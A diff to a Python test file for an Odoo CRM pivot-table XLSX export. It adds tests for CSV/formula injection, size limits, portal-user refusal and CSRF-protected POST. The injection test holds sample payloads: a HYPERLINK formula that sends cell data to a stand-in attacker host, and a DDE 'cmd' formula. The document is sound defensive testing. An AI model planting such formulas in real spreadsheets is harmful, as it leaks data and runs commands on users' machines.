@@ -3,6 +3,9 @@ import json
 import zipfile
 from xml.etree import ElementTree
 
+from odoo.exceptions import UserError
+
+from ..controllers import pivot
 from ..controllers.pivot import write_pivot_table
 from .common import CrmExtendedCase, PortalHttpCase
 
@@ -33,15 +36,19 @@ TABLE = {
 
 
 def read_xlsx(content):
-    """({cell reference: value}, [merged ranges]) of the workbook's first sheet."""
+    """({cell reference: value}, [merged ranges]) of the workbook's first sheet; a formula
+    reads as ("formula", its text)."""
     with zipfile.ZipFile(io.BytesIO(content)) as book:
         strings = [item.findtext(SHEET + "t") for item in
                    ElementTree.fromstring(book.read("xl/sharedStrings.xml")).iter(SHEET + "si")]
         sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
     cells = {}
     for cell in sheet.iter(SHEET + "c"):
+        if cell.find(SHEET + "f") is not None:
+            cells[cell.get("r")] = ("formula", cell.findtext(SHEET + "f"))
+    for cell in sheet.iter(SHEET + "c"):
         value = cell.findtext(SHEET + "v")
-        if value is not None:
+        if value is not None and cell.get("r") not in cells:
             cells[cell.get("r")] = strings[int(value)] if cell.get("t") == "s" else float(value)
     return cells, [merged.get("ref") for merged in sheet.iter(SHEET + "mergeCell")]
 
@@ -75,6 +82,45 @@ class TestPivotXlsxLayout(CrmExtendedCase):
         self.assertLessEqual(len(name), 31)
         self.assertFalse(set(name) & set("[]:*?/\\"))
 
+    def test_text_is_never_a_formula(self):
+        """A customer named "=HYPERLINK(...)" lands in a header and a row title; a text
+        value too: all stay text in the staff member's spreadsheet."""
+        payload = '=HYPERLINK("http://evil.example.com/?"&A1,"Click")'
+        table = json.loads(json.dumps(TABLE))
+        table["headers"][1][0]["title"] = payload
+        table["rows"][1]["title"] = "=1+1"
+        table["rows"][1]["values"][2]["value"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+        stream = io.BytesIO()
+        write_pivot_table(table, stream)
+        cells, _merged = read_xlsx(stream.getvalue())
+        self.assertEqual(cells["B2"], payload)
+        self.assertEqual(cells["A5"].strip(), "=1+1")
+        self.assertEqual(cells["D5"], "@SUM(1+1)*cmd|' /C calc'!A0")
+        self.assertFalse([cell for cell in cells.values() if isinstance(cell, tuple)])
+
+    def test_sizes_beyond_the_bounds_are_refused(self):
+        """Every size the client sends drives a loop: each one past its bound is refused
+        before anything is written."""
+        too_wide = json.loads(json.dumps(TABLE))
+        too_wide["headers"][0][0]["width"] = pivot.PIVOT_MAX_COLUMNS + 1
+        too_high = json.loads(json.dumps(TABLE))
+        too_high["headers"][0][0]["height"] = 10 ** 9
+        too_deep = dict(TABLE, headers=[[{"title": "x", "width": 1, "height": 1}]]
+                        * (pivot.PIVOT_MAX_HEADER_ROWS + 1))
+        too_many_rows = dict(TABLE, rows=[{"title": "r", "indent": 0, "values": []}]
+                             * (pivot.PIVOT_MAX_ROWS + 1))
+        too_indented = dict(TABLE, rows=[{"title": "r", "indent": 10 ** 9, "values": []}])
+        too_many_measures = dict(TABLE, measure_row=[{"measure": "m", "is_bold": False}]
+                                 * pivot.PIVOT_MAX_COLUMNS)
+        negative = json.loads(json.dumps(TABLE))
+        negative["headers"][1][0]["width"] = -5
+        for table in (too_wide, too_high, too_deep, too_many_rows, too_indented,
+                      too_many_measures, negative):
+            stream = io.BytesIO()
+            with self.assertRaises(UserError):
+                write_pivot_table(table, stream)
+            self.assertEqual(stream.getvalue(), b"")
+
 
 class TestPivotXlsxDownload(PortalHttpCase):
 
@@ -92,7 +138,46 @@ class TestPivotXlsxDownload(PortalHttpCase):
         self.assertEqual(cells["G4"], 290.0)
 
     def test_only_for_users_logged_in(self):
-        response = self.url_open("/web/pivot/export_xlsx?data=%7B%7D&token=1",
+        response = self.url_open("/web/pivot/export_xlsx", data={"data": "{}", "token": "1"},
                                  allow_redirects=False)
         self.assertEqual(response.status_code, 302)
         self.assertIn("/web/login", response.headers["Location"])
+
+    def test_portal_users_are_refused(self):
+        """A portal session posting a valid form with its own CSRF token gets no file."""
+        self.authenticate("crmx_portal", "crmx_portal")
+        response = self.url_open("/web/pivot/export_xlsx", data={
+            "data": json.dumps(TABLE), "token": "42", "csrf_token": self.csrf_token()})
+        self.assertEqual(response.status_code, 403)
+        self.assertNotIn(b"PK", response.content[:2])
+        self.assertNotIn("fileToken", response.cookies)
+
+    def test_post_with_csrf_only(self):
+        """A link or a foreign site's form cannot make a logged-in employee's browser
+        download (and thereby export) a table: GET and a POST without the token fail."""
+        self.user_manager.password = "crmx_manager"
+        self.authenticate("crmx_manager", "crmx_manager")
+        response = self.url_open("/web/pivot/export_xlsx?data=%s&token=1"
+                                 % json.dumps(TABLE), allow_redirects=False)
+        self.assertEqual(response.status_code, 405)
+        response = self.url_open("/web/pivot/export_xlsx", data={
+            "data": json.dumps(TABLE), "token": "1"}, allow_redirects=False)
+        self.assertEqual(response.status_code, 400)
+        self.assertNotIn("fileToken", response.cookies)
+
+    def test_refusal_is_shown_to_the_user(self):
+        """A table beyond the bounds answers 400 with the reason, as the client's download
+        shows errors, and no file."""
+        self.user_manager.password = "crmx_manager"
+        self.authenticate("crmx_manager", "crmx_manager")
+        table = dict(TABLE, rows=[{"title": "r", "indent": 0, "values": []}]
+                     * (pivot.PIVOT_MAX_ROWS + 1))
+        response = self.url_open("/web/pivot/export_xlsx", data={
+            "data": json.dumps(table), "token": "1", "csrf_token": self.csrf_token()})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn("too many rows", response.text)
+        self.assertNotIn("fileToken", response.cookies)
+        response = self.url_open("/web/pivot/export_xlsx", data={
+            "data": "not json", "token": "1", "csrf_token": self.csrf_token()})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn("not readable", response.text)
